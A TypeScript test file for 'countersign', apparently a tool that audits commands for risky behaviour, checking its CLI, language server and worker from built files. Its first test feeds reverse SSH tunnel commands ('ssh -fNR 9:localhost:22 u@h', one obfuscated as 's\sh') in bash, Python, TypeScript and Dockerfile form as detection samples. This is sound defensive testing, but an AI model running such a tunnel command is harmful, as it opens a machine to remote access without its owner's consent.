/** What a user has: the built files in a folder of their own, no node_modules, no sources. */
import assert from "node:assert/strict";
import { spawn, spawnSync } from "node:child_process";
import { once } from "node:events";
import { cpSync, mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { Worker } from "node:worker_threads";
import { root } from "../../scripts/root.mjs";

interface BatchResult {
  readonly id: string | null;
  readonly findings: readonly {
    readonly rule: string;
    readonly severity: string;
    readonly canonical?: string;
    readonly via: readonly string[];
    readonly range: object;
  }[];
}

describe("the built files alone", () => {
  let folder: string;

  before(() => {
    folder = mkdtempSync(join(tmpdir(), "countersign alone "));
    cpSync(join(root, "dist"), join(folder, "dist"), { recursive: true, filter: (path) => !path.endsWith(".map") });
    cpSync(join(root, "package.json"), join(folder, "package.json"));
  });
  after(() => rmSync(folder, { recursive: true, force: true }));

  const countersign = (args: readonly string[], input = "") =>
    spawnSync(process.execPath, [join(folder, "dist", "cli.js"), ...args], { cwd: folder, input, encoding: "utf8" });

  it("find one tunnel, however the command and its host language spell it", () => {
    const rows = [
      { id: "1", language: "bash", text: "timeout 5 s\\sh -fNR 9:localhost:22 u@h" },
      { id: "2", language: "python", text: 'import subprocess\nsubprocess.run(["ssh", "-fNR", "9:localhost:22", "u@h"])\n' },
      {
        id: "3",
        language: "typescript",
        text: 'import { execSync } from "node:child_process";\nexecSync("ssh -fNR 9:localhost:22 u@h");\n',
      },
      { id: "4", language: "dockerfile", text: "FROM debian\nRUN ssh -fNR 9:localhost:22 u@h\n" },
    ];
    const run = countersign(["audit", "--batch", "-"], rows.map((row) => `${JSON.stringify(row)}\n`).join(""));
    assert.equal(run.status, 0, run.stderr);
    const results: BatchResult[] = run.stdout
      .trim()
      .split("\n")
      .map((line) => JSON.parse(line));
    assert.deepEqual(
      // That the image has no digest is told as well, and is no mark.
      results.map(({ id, findings }) => [id, findings.filter(({ severity }) => severity !== "info").map(({ rule }) => rule)]),
      rows.map(({ id }) => [id, ["command/reverse-ssh-tunnel"]]),
    );
    const [shell] = results;
    assert.equal(shell?.findings[0]?.canonical, "ssh -N -R=9:localhost:22 -f -- u@h");
    assert.deepEqual(shell?.findings[0]?.via, ["timeout"]);
    assert.deepEqual(shell?.findings[0]?.range, { start: { line: 0, character: 10 }, end: { line: 0, character: 38 } });
  });

  it("say their version and their commands", () => {
    assert.match(countersign(["--version"]).stdout, /^countersign \d+\.\d+\.\d+$/m);
    assert.match(countersign(["--help"]).stdout, /review/);
  });

  it("start a language server that answers, and ends when it is told to", async () => {
    const server = spawn(process.execPath, [join(folder, "dist", "server.js"), "--stdio"], { stdio: ["pipe", "pipe", "inherit"] });
    const ended = once(server, "exit");
    const say = (content: object): void => {
      const text = JSON.stringify({ jsonrpc: "2.0", ...content });
      server.stdin.write(`Content-Length: ${Buffer.byteLength(text)}\r\n\r\n${text}`);
    };
    let said = "";
    const answer = async (id: number): Promise<void> => {
      while (!said.includes(`"id":${id}`)) said += String((await once(server.stdout, "data"))[0]);
    };
    try {
      say({ id: 1, method: "initialize", params: { processId: null, rootUri: null, capabilities: {} } });
      await answer(1);
      assert.match(said, /"capabilities":/);
      say({ method: "initialized", params: {} });
      say({ id: 2, method: "shutdown" });
      await answer(2);
      say({ method: "exit" });
      assert.equal((await ended)[0], 0);
    } finally {
      server.kill();
    }
  });

  it("hold a worker that opens its catalogue and is ready", async () => {
    const worker = new Worker(join(folder, "dist", "analysis-worker.js"), { workerData: { assetFolder: join(folder, "dist", "assets") } });
    try {
      assert.deepEqual((await once(worker, "message"))[0], { kind: "ready" });
    } finally {
      await worker.terminate();
    }
  });
});
